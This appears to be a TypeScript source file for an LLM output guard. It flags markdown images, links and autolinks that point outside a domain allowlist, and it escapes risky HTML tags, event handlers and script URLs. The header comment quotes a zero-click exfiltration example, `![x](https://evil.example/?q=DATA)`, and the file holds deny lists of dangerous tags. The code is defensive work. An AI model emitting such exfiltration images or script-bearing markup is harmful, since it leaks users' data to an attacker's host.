/**
 * Markup checks of model output (control G7): markdown images and links whose destination is outside
 * the domain allowlist (the zero-click exfiltration `![x](https://evil.example/?q=DATA)`), and raw
 * HTML that a renderer would execute or fetch. Regular expressions rather than a markdown parser: a
 * parser needs the whole document (reference definitions may come last), the stream scanner needs
 * a verdict on a window of it.
 */
import { BulwarkError } from '../../core/errors.js';
import type { GuardAction, GuardSpan } from './guard-types.js';

/** A check the stream scanner runs on each window of the answer. */
export interface MarkupDetector {
  /** The violations in `text`, whose first character is at offset `base` of the answer. */
  detect(text: string, base: number): GuardSpan[];
  /**
   * Index in `text` (at or after `from`) of the earliest construct that is still open at the end of
   * `text` and may become a violation when more arrives: an unclosed link or tag.
   */
  openFrom(text: string, from: number): number | undefined;
}

const INLINE_LINK =
  /(!?)\[([^[\]\n]{0,1000})\]\([ \t]*(<[^<>\n]*>|[^\s()]*(?:\([^\s()]*\)[^\s()]*)*)(?:[ \t]+(?:"[^"\n]*"|'[^'\n]*'))?[ \t]*\)/g;
const REFERENCE_DEFINITION = /^ {0,3}\[([^[\]\n]{1,999})\]:[ \t]*(<[^<>\n]*>|\S+)/gm;
const AUTOLINK = /<([a-zA-Z][a-zA-Z0-9+.-]{1,31}:[^\s<>]*)>/g;
/** An inline link or image not yet closed: `[text`, `[text](`, `[text](https://host/pa`. */
const OPEN_LINK =
  /!?\[[^[\]\n]{0,1000}(?:\](?:\([ \t]*(?:<[^<>\n]*|[^\s()]*(?:\([^\s()]*\)?[^\s()]*)*)(?:[ \t]+(?:"[^"\n]*"?|'[^'\n]*'?)?)?[ \t]*)?)?$|!$/y;
const RELATIVE_BASE = 'https://relative.invalid/';

/**
 * The hostnames of `allowDomains` in the form the URL parser gives (lower case, punycode); a domain
 * also allows its subdomains. Throws `CONFIG_INVALID` for an entry that is not a hostname.
 */
export function normalizeAllowDomains(allowDomains: readonly string[]): string[] {
  return allowDomains.map((domain) => {
    const host = /^[^\s/:?#@]+$/.test(domain) ? parseUrl(`https://${domain}/`)?.hostname : undefined;
    if (host === undefined || host === '')
      throw new BulwarkError(
        'CONFIG_INVALID',
        `links.allowDomains: ${JSON.stringify(domain)} is not a domain`,
      );
    return host;
  });
}

/** Whether a markdown destination may be rendered: relative, or http(s) to an allowed domain. */
export function isAllowedDestination(raw: string, allowed: readonly string[], isImage: boolean): boolean {
  const destination = raw.startsWith('<') ? raw.slice(1, -1) : raw;
  if (destination === '') return true;
  const url = parseUrl(destination, RELATIVE_BASE);
  if (url === undefined) return false;
  if (url.protocol === 'mailto:' || url.protocol === 'tel:') return !isImage;
  if (url.protocol !== 'https:' && url.protocol !== 'http:') return false;
  if (url.hostname === 'relative.invalid' && !/^[a-zA-Z][a-zA-Z0-9+.-]*:|^[\\/]{2}/.test(destination.trim()))
    return true;
  const host = url.hostname.toLowerCase();
  return allowed.some((domain) => host === domain || host.endsWith(`.${domain}`));
}

/** The link constructs the link guard reports, each with its own rule. */
type LinkKind = 'image' | 'link' | 'reference' | 'autolink';

/**
 * How a violation of each kind is reported. A reference definition is checked as an image
 * (`mailto:` refused) because any image may use it.
 */
const LINK_RULES: Record<LinkKind, { ruleId: string; label: string; isImage: boolean; prefix: string }> = {
  image: { ruleId: 'gateway.output.markdown-image', label: 'markdown image', isImage: true, prefix: '' },
  link: { ruleId: 'gateway.output.markdown-link', label: 'markdown link', isImage: false, prefix: '' },
  reference: {
    ruleId: 'gateway.output.markdown-reference',
    label: 'markdown link reference',
    isImage: true,
    prefix: '',
  },
  autolink: {
    ruleId: 'gateway.output.markdown-autolink',
    label: 'autolink',
    isImage: false,
    prefix: '[link removed]',
  },
};

/** A link syntax: its pattern, and what a match is, where it points, and what a redaction keeps. */
interface LinkPattern {
  readonly regex: RegExp;
  /** `keep` is relative to the start of the match. */
  readonly read: (m: RegExpExecArray) => {
    kind: LinkKind;
    destination: string;
    keep?: readonly [number, number];
  };
}

const LINK_PATTERNS: readonly LinkPattern[] = [
  {
    regex: INLINE_LINK,
    read(m) {
      const isImage = m[1] === '!';
      const textStart = isImage ? 2 : 1;
      return {
        kind: isImage ? 'image' : 'link',
        destination: m[3] ?? '',
        keep: [textStart, textStart + (m[2] ?? '').length],
      };
    },
  },
  { regex: REFERENCE_DEFINITION, read: (m) => ({ kind: 'reference', destination: m[2] ?? '' }) },
  { regex: AUTOLINK, read: (m) => ({ kind: 'autolink', destination: m[1] ?? '' }) },
];

/** The link guard: images, links, autolinks and reference definitions to domains off the allowlist. */
export function createLinkDetector(action: GuardAction, allowDomains: readonly string[]): MarkupDetector {
  const allowed = normalizeAllowDomains(allowDomains);
  return {
    detect(text, base) {
      const spans: GuardSpan[] = [];
      for (const { regex, read } of LINK_PATTERNS) {
        for (const m of text.matchAll(regex)) {
          const { kind, destination, keep } = read(m);
          const rule = LINK_RULES[kind];
          if (isAllowedDestination(destination, allowed, rule.isImage)) continue;
          const start = base + m.index;
          spans.push({
            guard: 'links',
            action,
            start,
            end: start + m[0].length,
            ruleId: rule.ruleId,
            message: `${rule.label} to a destination outside the allowlist (${hostOf(destination)})`,
            prefix: rule.prefix,
            ...(keep && { keep: [start + keep[0], start + keep[1]] }),
          });
        }
      }
      return spans;
    },
    openFrom(text, from) {
      for (
        let at = indexOfEither(text, '[', '!', from);
        at !== -1;
        at = indexOfEither(text, '[', '!', at + 1)
      ) {
        OPEN_LINK.lastIndex = at;
        if (OPEN_LINK.test(text)) return at;
      }
      return undefined;
    },
  };
}

/** Tags a browser runs, fetches from or submits with. */
const DANGEROUS_TAGS = new Set(
  'script iframe frame frameset object embed applet img image svg math style link meta base form input button textarea select video audio source track picture template portal'.split(
    ' ',
  ),
);
const TAG = /<([a-zA-Z][a-zA-Z0-9-]*)((?:\s[^<>]*)?)>/g;
const RISKY_ATTRIBUTE =
  /(?:^|[\s"'/])(?:on[a-z]+\s*=|srcdoc\s*=|(?:href|src|action|formaction|xlink:href)\s*=\s*["']?\s*(?:java|vb)script\s*:)/i;
const SCRIPT_URL = /(?<![\w.+-])(?:java|vb)script[ \t]*:/gi;
const OPEN_TAG = /<[a-zA-Z][a-zA-Z0-9-]*(?:\s[^<>]*)?$/y;

/** Characters an HTML tag may hold before the stream scanner stops waiting for its `>`. */
export const HTML_TAG_LIMIT = 2048;

/**
 * The HTML guard: tags a renderer would run or fetch from (`<script`, `<img src=`, `<iframe`…), any
 * tag with an event handler or a script URL, and `javascript:`/`vbscript:` URLs anywhere. A
 * redaction escapes the tag's `<` (`&lt;script>` shows as text) and renames a script URL scheme.
 */
export function createHtmlDetector(action: GuardAction): MarkupDetector {
  return {
    detect(text, base) {
      const spans: GuardSpan[] = [];
      for (const m of text.matchAll(TAG)) {
        const name = (m[1] ?? '').toLowerCase();
        const isRisky = DANGEROUS_TAGS.has(name) || RISKY_ATTRIBUTE.test(m[2] ?? '');
        if (!isRisky) continue;
        const start = base + m.index;
        spans.push({
          guard: 'html',
          action,
          start,
          end: start + m[0].length,
          ruleId: 'gateway.output.html-tag',
          message: `raw HTML <${name}> tag that a renderer would run or fetch from`,
          prefix: '&lt;',
          keep: [start + 1, start + m[0].length],
        });
      }
      for (const m of text.matchAll(SCRIPT_URL)) {
        const start = base + m.index;
        spans.push({
          guard: 'html',
          action,
          start,
          end: start + m[0].length,
          ruleId: 'gateway.output.script-url',
          message: 'script URL scheme (javascript:/vbscript:)',
          prefix: 'blocked-',
          keep: [start, start + m[0].length],
        });
      }
      return spans;
    },
    openFrom(text, from) {
      for (let at = text.indexOf('<', from); at !== -1; at = text.indexOf('<', at + 1)) {
        OPEN_TAG.lastIndex = at;
        if (text.length - at <= HTML_TAG_LIMIT && OPEN_TAG.test(text)) return at;
      }
      return undefined;
    },
  };
}

function hostOf(raw: string): string {
  const destination = raw.startsWith('<') ? raw.slice(1, -1) : raw;
  const url = parseUrl(destination, RELATIVE_BASE);
  if (url === undefined) return 'malformed URL';
  if (url.protocol === 'https:' || url.protocol === 'http:') return url.hostname;
  return `${url.protocol} URL`;
}

function indexOfEither(text: string, a: string, b: string, from: number): number {
  const i = text.indexOf(a, from);
  const j = text.indexOf(b, from);
  return i === -1 ? j : j === -1 ? i : Math.min(i, j);
}

/** `URL.parse` of Node 22, which Node 20 lacks: the WHATWG parser browsers use, or undefined. */
function parseUrl(input: string, base?: string): URL | undefined {
  try {
    return new URL(input, base);
  } catch {
    return undefined;
  }
}
